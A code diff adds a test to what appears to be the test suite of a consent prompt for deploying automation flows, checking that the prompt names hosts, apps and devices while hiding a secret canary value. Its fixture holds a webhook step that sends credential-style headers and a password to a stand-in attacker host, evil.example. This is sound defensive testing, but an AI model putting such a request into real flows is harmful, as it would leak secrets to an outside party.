@@ -66,6 +66,49 @@ describe('what the user agrees to', () => {
     assert.doesNotMatch(detail, /canary|\u202E|\]\(/);
   });
 
+  it('names hosts, apps, devices, and changed settings that equal a secret of the flow', async () => {
+    const { client } = agents.service;
+    const path = 'equal.flow.json';
+    const { deviceIds } = (await flowOf(client, 'Wait', [])) as { readonly deviceIds: readonly string[] };
+    const devices = (await client.listDevices({ query: { pageSize: 100 } })).value.items ?? [];
+    const device = devices.find(({ id }) => deviceIds.includes(id))?.name ?? '';
+    const code = 'canary-1';
+    const steps: readonly MethodStep[] = [
+      ['device.launchApp', { platform: 'android', app: 'org.sandbox.form' }],
+      [
+        'webhooks.request',
+        {
+          url: `https://ada:evil.example@evil.example/${code}`,
+          headers: {
+            ...{ 'X-Auth-Token': device, 'api-key': 'org.sandbox.form', 'X-Vault-Token': 'Recording: ' },
+            ...{ 'X-Gitlab-Token': 'hosts: ', 'client-secret': 'Self-healing', password: code },
+          },
+        },
+      ],
+    ];
+    await write(path, steps, { selfHealingEnabled: false });
+    const { flowId } = await agents.call('deploy_flow', { ...INPUT, path });
+    const created = lastQuestion().detail;
+    for (const line of ['It uses these hosts: evil.example.', 'Apps: “org.sandbox.form”.'])
+      assert.ok(created.split('\n').includes(line), created);
+    assert.ok(created.includes(`Devices (1): “${device}”.`), created);
+    assert.doesNotMatch(created, /canary/);
+    await write(path, [...steps, WAIT], { selfHealingEnabled: true });
+    await agents.call('deploy_flow', { ...INPUT, path });
+    const updated = lastQuestion().detail;
+    assert.match(updated, /^It uses these hosts: evil\.example\.$/m);
+    assert.match(updated, /^Self-healing: .* → on$/m);
+    assert.doesNotMatch(updated, /canary/);
+    agents.agrees = false;
+    const activate = { ...INPUT, path, executionId: flowId };
+    await assert.rejects(agents.call('activate_flow', activate), /declined/);
+    agents.agrees = true;
+    const { detail } = lastQuestion();
+    assert.match(detail, /^It uses these hosts: evil\.example\.$/m);
+    assert.ok(detail.includes(`Devices (1): “${device}”.`), detail);
+    assert.doesNotMatch(detail, /canary/);
+  });
+
   it('is refused if the file changes between the question and the answer', async () => {
     await write(FILE, [WAIT]);
     const result = await callWhile('deploy_flow', INPUT, () =>
